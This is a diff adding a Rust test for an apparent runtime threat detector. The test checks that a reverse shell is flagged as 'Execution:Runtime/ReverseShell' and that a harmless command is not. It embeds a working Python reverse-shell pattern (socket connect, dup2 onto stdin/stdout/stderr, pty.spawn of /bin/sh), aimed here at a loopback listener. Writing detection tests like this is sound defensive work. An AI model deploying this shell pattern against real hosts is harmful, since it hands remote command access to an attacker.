@@ -3811,3 +3811,61 @@ fn a_web_server_having_a_shell_run_a_command() {
         kinds(&found)
     );
 }
+
+/// Tracee's "process standard input/output over socket" as the commonest reverse shell does it:
+/// python connects to a listener (loopback here), `dup2`s the socket onto its standard input,
+/// output and error and runs `pty.spawn("/bin/sh")`, which starts the shell on a terminal of its
+/// own (so the shell's descriptors are not the socket). `Execution:Runtime/ReverseShell`
+/// (`behaviour-reverse-shell-stdio-dup`) with the peer. The same python starting `id` instead
+/// raises no reverse shell.
+#[test]
+fn a_shell_started_on_a_terminal_by_a_program_talking_through_its_standard_streams() {
+    if !privileged(
+        "a_shell_started_on_a_terminal_by_a_program_talking_through_its_standard_streams",
+    ) {
+        return;
+    }
+    let listen = |reply: &'static [u8]| {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let port = listener.local_addr().expect("addr").port();
+        std::thread::spawn(move || {
+            if let Ok((mut s, _)) = listener.accept() {
+                let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
+                let _ = s.write_all(reply);
+                let mut sink = Vec::new();
+                let _ = std::io::Read::read_to_end(&mut s, &mut sink);
+            }
+        });
+        port
+    };
+    let program = |port: u16, then: &str| {
+        format!(
+            "import socket, os, pty, subprocess\n\
+             s = socket.create_connection(('127.0.0.1', {port}))\n\
+             [os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n\
+             {then}\n"
+        )
+    };
+    let port = listen(b"exit\n");
+    let found = detect(run(
+        Command::new("python3").args(["-c", &program(port, "pty.spawn('/bin/sh')")])
+    ));
+    let f = of(&found, "behaviour-reverse-shell-stdio-dup");
+    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
+    assert_eq!(f[0].finding_type, "Execution:Runtime/ReverseShell");
+    assert_eq!(
+        f[0].context.additional.get("stdioPeer").map(String::as_str),
+        Some(format!("127.0.0.1:{port}").as_str())
+    );
+    let port = listen(b"");
+    let found = detect(run(
+        Command::new("python3").args(["-c", &program(port, "subprocess.call(['id'])")])
+    ));
+    assert!(
+        !found
+            .iter()
+            .any(|f| f.finding_type == "Execution:Runtime/ReverseShell"),
+        "{:?}",
+        kinds(&found)
+    );
+}
